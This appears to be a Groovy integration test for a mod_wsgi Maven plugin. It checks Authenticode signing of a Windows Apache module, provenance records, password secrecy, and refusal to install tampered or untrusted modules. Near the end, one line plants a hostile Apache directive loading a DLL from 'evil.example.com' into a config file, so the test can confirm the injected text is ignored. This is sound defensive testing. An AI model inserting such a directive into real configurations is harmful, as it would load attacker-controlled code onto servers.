import groovy.json.JsonSlurper
import io.github.modwsgi.maven.ModWsgi
import io.github.modwsgi.maven.Rig
import io.github.modwsgi.maven.SigningKeys
import io.github.modwsgi.maven.it.BuildFolder
import io.github.modwsgi.maven.it.BuildLog
import io.github.modwsgi.maven.it.Maven
import io.github.modwsgi.maven.it.Selection
import java.nio.file.Files
import java.security.MessageDigest
import java.util.zip.ZipFile

def mod_wsgi = ModWsgi.older()
def server = { String id, String password, String more = '' -> "<server><id>$id</id><password>$password</password>$more</server>" }
def right = server('code-signing', SigningKeys.PASSWORD)
def maven = new Maven(basedir, localRepositoryPath).withServers(right)
def plugin = BuildLog.of(basedir).pluginCoordinates()
def classifier = 'ap24py314-win64-VC14'
def target = BuildFolder.of(basedir).target(classifier)
def unsigned = new File(target, 'mod_wsgi.so')
def signed = new File(target, 'signed/mod_wsgi.so')
def sha256 = { File file -> MessageDigest.getInstance('SHA-256').digest(file.bytes).encodeHex().toString() }
def provenance = { new JsonSlurper().parse(new File(target, 'mod_wsgi.json')) }
def certificate = { String name -> SigningKeys.certificateSha256(new File(basedir, "${name}.p12").toPath(), name) }
def keystore = new File(basedir, 'signing.p12')
def neverTold = { String password = SigningKeys.PASSWORD ->
    (basedir.listFiles() as List).findAll { it.name ==~ /build.*\.log/ }.each { assert !it.text.contains(password) : it }
    BuildFolder.files(new File(basedir, 'target')).each { assert !new File(basedir, "target/$it").getText('ISO-8859-1').contains(password) : it }
}

// A folder without jsign, from which modules are inspected and installed.
def elsewhere = new File(basedir, 'elsewhere')
assert elsewhere.mkdir()
new File(elsewhere, 'pom.xml').text = '<project><modelVersion>4.0.0</modelVersion><groupId>org.example</groupId>' +
        '<artifactId>elsewhere</artifactId><version>1</version><packaging>pom</packaging></project>'
Files.createSymbolicLink(new File(elsewhere, 'target').toPath(), new File(basedir, 'target').toPath())
def machine = new Maven(elsewhere, localRepositoryPath)
def inspected = { File file ->
    machine.run("$plugin:inspect", "-Dmodwsgi.file=$file", '-Dmodwsgi.format=json', "-Dmodwsgi.outputFile=$basedir/inspected.json")
    new JsonSlurper().parse(new File(basedir, 'inspected.json')).files[0]
}
def apache = new File(basedir, 'Apache24')
def install = { Map more -> ["$plugin:install-module", "-Dmodwsgi.apacheHome=$apache",
        "-Dmodwsgi.pythonHome=${Rig.require()}/cpython-3.14-x64"] + more.collect { name, value -> "-Dmodwsgi.$name=$value" } as CharSequence[] }
def state = { BuildFolder.files(apache).collectEntries { [it, sha256(new File(apache, it))] } }
def before = state()
def refused = { Map more, String... messages ->
    machine.fail(install(more)).says(messages as CharSequence[]).says('MojoFailureException').saysNot('\tat ')
    assert state() == before
}

println 'signed, loaded, served; with all of Maven\'s debugging output'
maven.run('verify', '-X').says(': linked and checked\n')
        .says("$classifier: signed\n", "module      $signed\n", "SHA-256     ${sha256(signed)}\n",
                "signed by   CN=Made Signer,O=Example, certificate SHA-256 ${certificate('code')}, no time stamp\n",
                ': loaded and served\n')
neverTold()
byte[] linked = unsigned.bytes
byte[] bytes = signed.bytes
def first = sha256(signed)
assert signed.length() > unsigned.length()

println 'osslsigncode agrees'
def pem = new SigningKeys(basedir.toPath()).pem(new File(basedir, 'code.p12').toPath(), 'code')
println SigningKeys.run(['osslsigncode', 'verify', '-CAfile', pem.toString(), '-in', signed.path])
        .tap { assert it.contains('Signature verification: ok') }

println 'what is published is the signed one'
assert provenance().module.sha256 == sha256(signed)
assert provenance().signer == [subject: 'CN=Made Signer,O=Example', certificateSha256: certificate('code'), timestamped: false,
        unsignedSha256: sha256(unsigned)]
assert new JsonSlurper().parse(new File(basedir, 'target/mod-wsgi/contents.json')).targets*.sha256 == [sha256(signed)]
new ZipFile(new File(basedir, 'target/signed-5.0.2.zip')).withCloseable { bundle ->
    def entry = bundle.getEntry('Apache24-win64-VC14/modules/mod_wsgi-py314-VC14.so')
    assert Arrays.equals(bundle.getInputStream(entry).bytes, bytes)
}
def inWheel = {
    new ZipFile(new File(target, 'mod_wsgi-5.0.2+ap24.vc14-cp314-cp314-win_amd64.whl')).withCloseable { wheel ->
        wheel.getInputStream(wheel.getEntry('mod_wsgi/server/mod_wsgi.cp314-win_amd64.pyd')).bytes
    }
}
assert Arrays.equals(inWheel(), bytes)

if (!Selection.onlyIf(!Selection.windows, 'further builds, of code that is the same there')) {
    println 'inspected, and installed where its signer is trusted'
    assert inspected(signed).signature.with { valid && certificateSha256 == certificate('code') }
    refused([trustedSigner: certificate('renewed')], 'The module is signed by somebody else: ')
    machine.run(install([trustedSigner: certificate('code')])).says('whom trustedSigner names', "$classifier: installed: ")
    return true
}

def installed = { ending -> new File(localRepositoryPath, "org/example/signed/5.0.2/signed-5.0.2-$classifier.$ending") }
maven.run('install', '-Dmodwsgi.skipVerify=true').says("$classifier: signature is current\n")
assert sha256(installed('so')) == first
assert installed('json').text.contains(sha256(signed))

println 'nothing changed: not signed again'
def stamp = signed.lastModified()
2.times { maven.run('package').says(mod_wsgi.carriedOver(), "$classifier: signature is current\n").saysNot(': signed\n') }
assert signed.lastModified() == stamp && sha256(signed) == first

println 'built again in another folder, the unsigned modules are compared'
maven.run('package', '-Dmodwsgi.checkReproducible=true').says("$classifier: signature is current\n", 'every byte is the same')

println 'the signed copy was changed, and deleted: signed again, the same bytes'
signed.bytes = linked
maven.run('package').says(': module is current\n').says("$classifier: signed\n")
assert sha256(signed) == first
assert signed.delete()
maven.run('package').says("$classifier: signed\n")
assert sha256(signed) == first

println 'another digest, another certificate: signed again, not linked'
maven.run('package', '-Dmodwsgi.signDigest=SHA-512').says("$classifier: signed\n", ': module is current\n')
assert sha256(signed) != first && Arrays.equals(inWheel(), signed.bytes)
keystore.bytes = new File(basedir, 'renewed.p12').bytes
maven.run('package').says("$classifier: signed\n", ': module is current\n', certificate('renewed'))
assert provenance().signer.certificateSha256 == certificate('renewed')
assert Arrays.equals(unsigned.bytes, linked)
keystore.bytes = new File(basedir, 'code.p12').bytes

println 'an encrypted password'
def security = new File(basedir, 'settings-security.xml')
def encrypted = { CharSequence... arguments ->
    (maven.run(arguments).toString() =~ /\{[A-Za-z0-9+\/=]{20,}}/)[0]
}
def master = encrypted('--encrypt-master-password', 'of all passwords')
security.text = "<settingsSecurity><master>$master</master></settingsSecurity>"
def secret = encrypted('--encrypt-password', SigningKeys.PASSWORD, "-Dsettings.security=$security")
maven.withServers(server('code-signing', secret))
assert new File(basedir, 'settings.xml').text.contains(secret) && !new File(basedir, 'settings.xml').text.contains(SigningKeys.PASSWORD)
assert signed.delete()
maven.run('package', '-X', "-Dsettings.security=$security").says("$classifier: signed\n")
assert sha256(signed) == first
neverTold()

println 'inspect, where the plugin has no jsign'
machine.run("$plugin:inspect", "-Dmodwsgi.file=$signed")
        .says('signed by CN=Made Signer,O=Example, issued by CN=Made Signer,O=Example', "certificate SHA-256 ${certificate('code')}",
                'no time stamp', 'the file is what was signed (SHA-256); whether the signer is trusted is for the machine that loads it')
assert inspected(unsigned).signature == null
def signature = inspected(signed).signature
assert signature.subject == 'CN=Made Signer,O=Example' && signature.valid && !signature.expired
assert signature.certificateSha256 == certificate('code') && signature.digestAlgorithm == 'SHA-256'
assert signature.timestamp == null && signature.problem == null

println 'a module that was changed since'
def tampered = new File(basedir, 'tampered.so')
tampered.bytes = bytes.clone().tap { it[it.length.intdiv(2)] ^= 1 }
def found = inspected(tampered)
assert !found.signature.valid && found.signature.subject == 'CN=Made Signer,O=Example'
assert found.findings*.code == ['MW-701'] && found.findings[0].severity == 'error'
machine.fail("$plugin:inspect", "-Dmodwsgi.file=$tampered", '-Dmodwsgi.failOnError=true')
        .says('MW-701 error: ', 'has a signature that does not hold: expected the file that was signed').saysNot('\tat ')

println 'a certificate that has expired since'
def expired = new File(basedir, 'expired.so')
SigningKeys.run(['osslsigncode', 'sign', '-pkcs12', "$basedir/expired.p12".toString(), '-pass', SigningKeys.PASSWORD,
        '-in', unsigned.path, '-out', expired.path])
found = inspected(expired)
assert found.signature.valid && found.signature.expired && found.findings*.severity == ['warning']

println 'installed where its signer is trusted'
refused([trustedSigner: certificate('renewed')],
        "The module is signed by somebody else: expected the certificate ${certificate('renewed')}, found ${certificate('code')}")
refused([trustedSigner: 'Made Signer'], 'trustedSigner is "Made Signer": expected the SHA-256 of a certificate')
refused([trustedSigner: ''], '-Dmodwsgi.trustedSigner is empty: expected a value. Give it one, or leave it out.')
signed.bytes = tampered.bytes
new File(target, 'mod_wsgi.json').with { it.text = it.text.replace(provenance().module.sha256, sha256(tampered)) }
refused([trustedSigner: certificate('code')], "The module's signature does not hold: ", 'one that was changed since')
maven.run('package', "-Dsettings.security=$security").says("$classifier: signed\n")
println '  the text that was published is not signed and not used'
new File(target, 'mod_wsgi.conf') << 'LoadFile "//evil.example.com/share/evil.dll"\n'
def colons = certificate('code').toUpperCase().replaceAll(/(..)(?!$)/, '$1:')
machine.run(install([trustedSigner: "${certificate('renewed')},$colons", writeConf: true]))
        .says('signed by CN=Made Signer,O=Example, whom trustedSigner names', "$classifier: installed: ")
assert sha256(new File(apache, 'modules/mod_wsgi-py314-VC14.so')) == first
assert !new File(apache, 'conf/extra/httpd-wsgi.conf').text.contains('evil')
before = state()
println '  a module of the repository'
machine.run(install([module: 'org.example:signed:5.0.2', trustedSigner: certificate('code')])).says('is installed already')
refused([module: 'org.example:signed:5.0.2', trustedSigner: certificate('renewed')], 'The module is signed by somebody else')

println 'no longer to be signed: the linked module is what is attached, and nobody who trusts signers takes it'
def pom = new File(basedir, 'pom.xml')
pom.text = pom.text.replaceAll(/<(modwsgi\.)?sign(Keystore|Server)>.*<\/(modwsgi\.)?sign(Keystore|Server)>/, '')
maven.run('install', '-Dmodwsgi.skipVerify=true').says(': module is current\n', "module      $unsigned\n").saysNot('signed by')
assert sha256(installed('so')) == sha256(unsigned)
assert provenance().signer == null && provenance().module.sha256 == sha256(unsigned)
refused([trustedSigner: certificate('code')], 'The module is not signed: ', "expected the signature of ${certificate('code')}")
return true
